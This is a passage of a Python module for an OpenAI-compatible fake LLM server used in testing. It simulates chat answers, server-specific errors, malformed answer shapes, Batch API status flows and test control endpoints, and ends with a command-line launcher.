        return "json_schema", _llama_cpp_python_validation_error(kind)
    if state.server == "old_server" and "max_completion_tokens" in body:
        response = _error(
            400,
            "Unrecognized request argument supplied: max_completion_tokens",
            type_="invalid_request_error",
            code=None,
        )
        return "max_completion_tokens", response
    return None


def _llama_cpp_python_validation_error(kind: Any) -> JSONResponse:
    """llama-cpp-python's answer to a response_format it does not know: its route handler turns
    FastAPI's request validation error into a 500 whose message is the error's text."""
    detail = {
        "type": "literal_error",
        "loc": ("body", "response_format", "type"),
        "msg": "Input should be 'text' or 'json_object'",
        "input": kind,
        "ctx": {"expected": "'text' or 'json_object'"},
    }
    message = (
        f"1 validation error:\n  {detail}\n\n"
        '  File "/usr/local/lib/python3.11/site-packages/llama_cpp/server/app.py", line 486, '
        "in create_chat_completion\n    POST /v1/chat/completions"
    )
    return _error(500, message, type_="internal_server_error", code=None)


def reshape_answer(kind: str, content: str) -> str:
    """A JSON answer as real models shape it (the answer-shape fault kinds)."""
    match kind:
        case "fenced":
            return f"```json\n{content}\n```"
        case "prose":
            return f"Here is the analysis you asked for:\n\n{content}\n\nI hope this helps!"
        case "think":
            return (
                "<think>\nThe user wants a summary as JSON {with the schema's fields}. "
                "Let me read the article first.\n</think>\n\n" + content
            )
    answer = json.loads(content)
    if kind == "missing_thesis":
        answer.pop("thesis", None)
    else:  # missing_optional
        answer.pop("loaded_language", None)
        for point in answer.get("argument_points") or []:
            if isinstance(point, dict):
                point.pop("premises", None)
    return json.dumps(answer, ensure_ascii=False)


def _inject_links(content: str) -> str:
    answer = json.loads(content)
    for key in ("summary", "thesis"):
        if isinstance(answer.get(key), str):
            answer[key] += INJECTED_LINKS
    for point in answer.get("argument_points") or []:
        if isinstance(point, dict) and isinstance(point.get("claim"), str):
            point["claim"] += INJECTED_LINKS
    return json.dumps(answer, ensure_ascii=False)


# --------------------------------------------------------------------------------------------
# The Batch API: files and batches as OpenAI's
# --------------------------------------------------------------------------------------------

BATCH_STEPS = ("validating", "in_progress", "finalizing")  # each GET moves one step on
EXPIRED_LINE = "This request could not be executed before the completion window expired."


def _no_batch_api() -> JSONResponse:
    # what a server without the Batch API (llama.cpp's, for one) answers
    return _error(404, "File Not Found", type_="not_found_error", code=None)


async def upload_file(request: Request) -> Response:
    state: FakeLLMState = request.app.state.fake
    if state.batch == "unsupported":
        return _no_batch_api()
    form = await request.form()
    upload = form.get("file")
    if upload is None or isinstance(upload, str):
        return _error(400, "'file' is required.", type_="invalid_request_error", code=None)
    content = await upload.read()
    file_id = f"file-{uuid.uuid4().hex}"
    state.files[file_id] = (upload.filename or "upload.jsonl", content)
    return JSONResponse(_file_object(file_id, upload.filename, len(content), form.get("purpose")))


def _file_object(file_id: str, name: Any, size: int, purpose: Any) -> dict[str, Any]:
    return {
        "id": file_id,
        "object": "file",
        "bytes": size,
        "created_at": int(time.time()),
        "filename": name,
        "purpose": purpose,
        "status": "processed",
    }


async def file_content(request: Request) -> Response:
    state: FakeLLMState = request.app.state.fake
    stored = state.files.get(request.path_params["file_id"])
    if stored is None:
        return _error(404, "No such file.", type_="invalid_request_error", code=None)
    return Response(stored[1], media_type="application/octet-stream")


async def create_batch(request: Request) -> Response:
    state: FakeLLMState = request.app.state.fake
    if state.batch == "unsupported":
        return _no_batch_api()
    body = await request.json()
    file_id = body.get("input_file_id") if isinstance(body, dict) else None
    if file_id not in state.files:
        return _error(400, "input_file_id is not a file.", type_="invalid_request_error", code=None)
    if body.get("endpoint") != "/v1/chat/completions":
        return _error(400, "Unsupported endpoint.", type_="invalid_request_error", code=None)
    lines = state.files[file_id][1].decode("utf-8").splitlines()
    now = int(time.time())
    batch = {
        "id": f"batch_{uuid.uuid4().hex}",
        "object": "batch",
        "endpoint": body["endpoint"],
        "errors": None,
        "input_file_id": file_id,
        "completion_window": body.get("completion_window", "24h"),
        "status": BATCH_STEPS[0],
        "output_file_id": None,
        "error_file_id": None,
        "created_at": now,
        "in_progress_at": None,
        "expires_at": now + 86400,
        "completed_at": None,
        "failed_at": None,
        "expired_at": None,
        "cancelled_at": None,
        "request_counts": {
            "total": sum(bool(line.strip()) for line in lines),
            "completed": 0,
            "failed": 0,
        },
        "metadata": body.get("metadata"),
    }
    state.batches[batch["id"]] = batch
    state.stats.batches += 1
    return JSONResponse(batch)


async def retrieve_batch(request: Request) -> Response:
    """The batch, one status further on (no clock: a test's polls move it); it ends as the
    `batch` setting says, when it leaves `finalizing`."""
    state: FakeLLMState = request.app.state.fake
    batch = state.batches.get(request.path_params["batch_id"])
    if batch is None:
        return _error(404, "No such batch.", type_="invalid_request_error", code=None)
    status = batch["status"]
    if status in BATCH_STEPS and not (state.batch == "hold" and status == "in_progress"):
        step = BATCH_STEPS.index(status) + 1
        if step < len(BATCH_STEPS):
            batch["status"] = BATCH_STEPS[step]
            batch["in_progress_at"] = batch["in_progress_at"] or int(time.time())
        else:
            _end_batch(state, batch)
    return JSONResponse(batch)


async def cancel_batch(request: Request) -> Response:
    state: FakeLLMState = request.app.state.fake
    batch = state.batches.get(request.path_params["batch_id"])
    if batch is None:
        return _error(404, "No such batch.", type_="invalid_request_error", code=None)
    if batch["status"] in BATCH_STEPS:
        batch["status"] = "cancelled"
        batch["cancelled_at"] = int(time.time())
    return JSONResponse(batch)


def _end_batch(state: FakeLLMState, batch: dict[str, Any]) -> None:
    now = int(time.time())
    if state.batch == "fail":
        batch["status"], batch["failed_at"] = "failed", now
        batch["errors"] = {
            "object": "list",
            "data": [
                {
                    "code": "invalid_request",
                    "message": "The stand-in was told to fail this batch (batch: fail).",
                    "param": None,
                    "line": 1,
                }
            ],
        }
        return
    lines = [
        json.loads(line)
        for line in state.files[batch["input_file_id"]][1].decode("utf-8").splitlines()
        if line.strip()
    ]
    # "expire": the first half ran before the window closed
    ran = len(lines) // 2 if state.batch == "expire" else len(lines)
    output: list[dict[str, Any]] = []
    errors: list[dict[str, Any]] = []
    for index, line in enumerate(lines):
        entry: dict[str, Any] = {
            "id": f"batch_req_{uuid.uuid4().hex}",
            "custom_id": line.get("custom_id"),
            "response": None,
            "error": None,
        }
        if index >= ran:
            entry["error"] = {"code": "batch_expired", "message": EXPIRED_LINE}
            errors.append(entry)
            continue
        state.stats.batch_lines += 1
        planned = _plan_chat(state, line.get("body"))
        answer = planned if isinstance(planned, Response) else _answer_chat(state, planned)
        try:
            answer_body = json.loads(bytes(answer.body))
        except ValueError:  # a "malformed" fault: the line carries what the server sent
            answer_body = bytes(answer.body).decode("utf-8", "replace")
        entry["response"] = {
            "status_code": answer.status_code,
            "request_id": uuid.uuid4().hex,
            "body": answer_body,
        }
        (output if answer.status_code == 200 else errors).append(entry)
    batch["request_counts"]["completed"] = len(output)
    batch["request_counts"]["failed"] = len(errors)
    for key, entries in (("output_file_id", output), ("error_file_id", errors)):
        if entries:
            file_id = f"file-{uuid.uuid4().hex}"
            content = "".join(json.dumps(e) + "\n" for e in entries).encode("utf-8")
            state.files[file_id] = (f"{batch['id']}_{key}.jsonl", content)
            batch[key] = file_id
    if ran < len(lines):
        batch["status"], batch["expired_at"] = "expired", now
    else:
        batch["status"], batch["completed_at"] = "completed", now


async def list_models(request: Request) -> Response:
    data = [
        {"id": model, "object": "model", "created": 0, "owned_by": "evenhand-fake"}
        for model in MODEL_IDS
    ]
    return JSONResponse({"object": "list", "data": data})


async def control(request: Request) -> Response:
    state: FakeLLMState = request.app.state.fake
    if request.method == "POST":
        try:
            change = ControlRequest.model_validate_json(await request.body() or b"{}")
        except ValidationError as exc:
            return JSONResponse({"error": json.loads(exc.json())}, status_code=422)
        apply_control(state, change)
    return JSONResponse(state.settings_json())


def apply_control(state: FakeLLMState, change: ControlRequest) -> None:
    if change.latency is not None:
        state.latency = change.latency
    if change.faults is not None:
        state.set_faults(change.faults)
    if change.seed is not None:
        state.rng.seed(change.seed)
    if change.language is not None:
        state.language = change.language
    if "max_context_chars" in change.model_fields_set:
        state.max_context_chars = change.max_context_chars
    if change.requests_log is not None:
        state.requests_log = change.requests_log
    if change.server is not None:
        state.server = change.server
    if "models" in change.model_fields_set:
        state.models = change.models
    if change.support is not None:
        state.support = change.support
    if change.batch is not None:
        state.batch = change.batch
    if change.hold is not None:
        if change.hold:
            state.released.clear()
        else:
            state.released.set()
    if change.reset_stats:
        # Requests still sleeping keep decrementing in_flight later, so carry it over.
        in_flight = state.stats.in_flight
        state.stats = Stats(in_flight=in_flight, max_in_flight=in_flight)
        state.logged_requests.clear()


async def stats(request: Request) -> Response:
    state: FakeLLMState = request.app.state.fake
    return JSONResponse(state.stats.as_json())


async def logged_requests(request: Request) -> Response:
    state: FakeLLMState = request.app.state.fake
    return JSONResponse(list(state.logged_requests))


def create_app(
    *,
    latency: float = 0.0,
    faults: Sequence[Mapping[str, Any]] = (),
    seed: int | None = None,
    language: str = "en",
    max_context_chars: int | None = None,
    requests_log: bool = False,
    server: ServerDialect = "openai",
    models: Sequence[str] | None = None,
) -> Starlette:
    """The fake as an ASGI app; initial settings use the same rules as `POST /_control`."""
    app = Starlette(
        routes=[
            Route("/v1/chat/completions", chat_completions, methods=["POST"]),
            Route("/v1/models", list_models, methods=["GET"]),
            Route("/v1/files", upload_file, methods=["POST"]),
            Route("/v1/files/{file_id}/content", file_content, methods=["GET"]),
            Route("/v1/batches", create_batch, methods=["POST"]),
            Route("/v1/batches/{batch_id}", retrieve_batch, methods=["GET"]),
            Route("/v1/batches/{batch_id}/cancel", cancel_batch, methods=["POST"]),
            Route("/_control", control, methods=["GET", "POST"]),
            Route("/_stats", stats, methods=["GET"]),
            Route("/_requests", logged_requests, methods=["GET"]),
        ]
    )
    state = FakeLLMState()
    apply_control(
        state,
        ControlRequest(
            latency=latency,
            faults=[FaultSpec.model_validate(f) for f in faults],
            seed=seed,
            language=language,
            max_context_chars=max_context_chars,
            requests_log=requests_log,
            hold=False,
            server=server,
            models=list(models) if models is not None else None,
        ),
    )
    app.state.fake = state
    return app


# --------------------------------------------------------------------------------------------
# CLI
# --------------------------------------------------------------------------------------------


def _parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        prog="python -m testkit.fake_llm", description="OpenAI-compatible fake LLM server"
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0, help="0 picks a free port (printed)")
    parser.add_argument("--latency", type=float, default=0.0, help="seconds before each answer")
    parser.add_argument(
        "--fault",
        action="append",
        default=[],
        metavar="JSON",
        help='initial fault rule, repeatable, e.g. \'{"kind": "429", "rate": 0.1}\'',
    )
    parser.add_argument("--seed", type=int, default=None, help="seed for rate-based faults")
    parser.add_argument("--language", default="en", help="sentencex language code")
    parser.add_argument(
        "--max-context-chars",
        type=int,
        default=None,
        help="answer longer prompts (message characters) with context_length_exceeded",
    )
    parser.add_argument(
        "--requests-log", action="store_true", help="keep recent request bodies (GET /_requests)"
    )
    parser.add_argument(
        "--server",
        default="openai",
        choices=get_args(ServerDialect),
        help="which real server's acceptance rules to follow",
    )
    parser.add_argument(
        "--model", action="append", default=None, help="a model served (repeatable; default: any)"
    )
    parser.add_argument("--log-level", default="warning")
    return parser.parse_args(argv)


def _listening_socket(host: str, port: int) -> socket.socket:
    # Bind ourselves so port 0 works and the real port can be announced before serving.
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((host, port))
    sock.listen(2048)
    return sock


def main(argv: Sequence[str] | None = None) -> None:
    args = _parse_args(argv)
    app = create_app(
        latency=args.latency,
        faults=[json.loads(f) for f in args.fault],
        seed=args.seed,
        language=args.language,
        max_context_chars=args.max_context_chars,
        requests_log=args.requests_log,
        server=args.server,
        models=args.model,
    )
    sock = _listening_socket(args.host, args.port)
    port = sock.getsockname()[1]
    print(f"fake_llm listening on http://{args.host}:{port}/v1", flush=True)
    config = uvicorn.Config(
        app,
        log_level=args.log_level,
        access_log=False,  # benchmarks send thousands of requests
        backlog=2048,
        timeout_keep_alive=30,  # pooled client connections stay warm between benchmark waves
    )
    server = uvicorn.Server(config)
    server.run(sockets=[sock])


if __name__ == "__main__":
    main()
